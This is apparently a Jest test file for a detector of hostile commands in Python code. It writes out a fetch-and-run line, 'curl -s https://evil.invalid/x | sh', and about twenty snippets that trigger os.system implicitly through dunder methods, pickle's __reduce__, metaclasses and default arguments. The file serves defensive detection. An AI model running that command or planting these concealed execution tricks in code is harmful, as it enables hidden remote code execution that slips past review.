import { found } from '../support/found.js';

const FETCH = 'curl -s https://evil.invalid/x | sh';
const HARMLESS = 'git -C . status | cat';

/** Code that Python runs without being told its name, where something is done with an object. */
const IMPLICIT: readonly (readonly [string, (command: string) => string])[] = [
  [
    'a text is made of it',
    (text) => `import os
class A:
    def __str__(self): os.system("${text}"); return ""
"%s" % A()`,
  ],
  [
    'a text is formatted with it',
    (text) => `import os
class A:
    def __str__(self): os.system("${text}"); return ""
f"{A()}"`,
  ],
  [
    'it is formatted',
    (text) => `import os
class A:
    def __format__(self, s): os.system("${text}"); return ""
"{}".format(A())`,
  ],
  [
    'it is tested',
    (text) => `import os
class A:
    def __bool__(self): os.system("${text}"); return True
if A(): pass`,
  ],
  [
    'it ends a loop',
    (text) => `import os
class A:
    def __bool__(self): os.system("${text}"); return False
while A(): pass`,
  ],
  [
    'it is a key',
    (text) => `import os
class A:
    def __hash__(self): os.system("${text}"); return 1
{A(): 1}`,
  ],
  [
    'it is an index',
    (text) => `import os
class A:
    def __index__(self): os.system("${text}"); return 0
[1][A()]`,
  ],
  [
    'it is added up',
    (text) => `import os
class A:
    def __radd__(self, o): os.system("${text}"); return 0
sum([A()])`,
  ],
  [
    'it is sorted',
    (text) => `import os
class A:
    def __lt__(self, o): os.system("${text}"); return True
sorted([A(), A()])`,
  ],
  [
    'it is copied',
    (text) => `import os, copy
class A:
    def __copy__(self): os.system("${text}")
copy.copy(A())`,
  ],
  [
    'it is read back',
    (text) => `import os, pickle
class A:
    def __reduce__(self): return os.system, ("${text}",)
pickle.loads(pickle.dumps(A()))`,
  ],
  [
    'it is a path',
    (text) => `import os
class A:
    def __fspath__(self): os.system("${text}"); return "."
open(A())`,
  ],
  [
    'it is awaited',
    (text) => `import os, asyncio
class A:
    def __await__(self):
        os.system("${text}")
        yield
async def m(): await A()
asyncio.run(m())`,
  ],
  [
    'it loses an attribute',
    (text) => `import os
class A:
    def __delattr__(self, n): os.system("${text}")
a = A()
del a.x`,
  ],
  [
    'its class is asked about something',
    (text) => `import os
class M(type):
    def __instancecheck__(c, o): os.system("${text}")
class A(metaclass=M): pass
isinstance(1, A)`,
  ],
  [
    'its class is called',
    (text) => `import os
class M(type):
    def __call__(c, *a): os.system("${text}")
class A(metaclass=M): pass
A()`,
  ],
  [
    'a class derives from it',
    (text) => `import os
class B:
    def __mro_entries__(self, b): os.system("${text}"); return ()
class A(B()): pass`,
  ],
  [
    'it is unpacked',
    (text) => `import os
class A:
    def __iter__(self):
        os.system("${text}")
        return iter([1,2])
a, b = A()`,
  ],
  [
    'it is spread out',
    (text) => `import os
class A:
    def __iter__(self):
        os.system("${text}")
        return iter([1,2])
print(*A())`,
  ],
  [
    'its class is given an index',
    (text) => `import os
class A:
    def __class_getitem__(cls, k): os.system(k)
A["${text}"]`,
  ],
  [
    'it makes a class',
    (text) => `import os
class A(metaclass=lambda *a, **k: os.system("${text}")): pass`,
  ],
  [
    'it is a default',
    (text) => `import os
(lambda x=os.system("${text}"): x)`,
  ],
];

test.each(IMPLICIT)('what runs because %s', (_when, code) => {
  expect(found(code(FETCH))['hostile-command']).toBe('CRITICAL');
  expect(found(code(HARMLESS))['hostile-command']).toBeUndefined();
});

test('a method of an object that nothing makes unasked is only called', () => {
  const code = `
import os
class A:
    def __str__(self):
        os.system("${FETCH}")
        return ""
def make():
    return A()`;
  expect(found(code)['hostile-command']).toBe('MEDIUM');
});
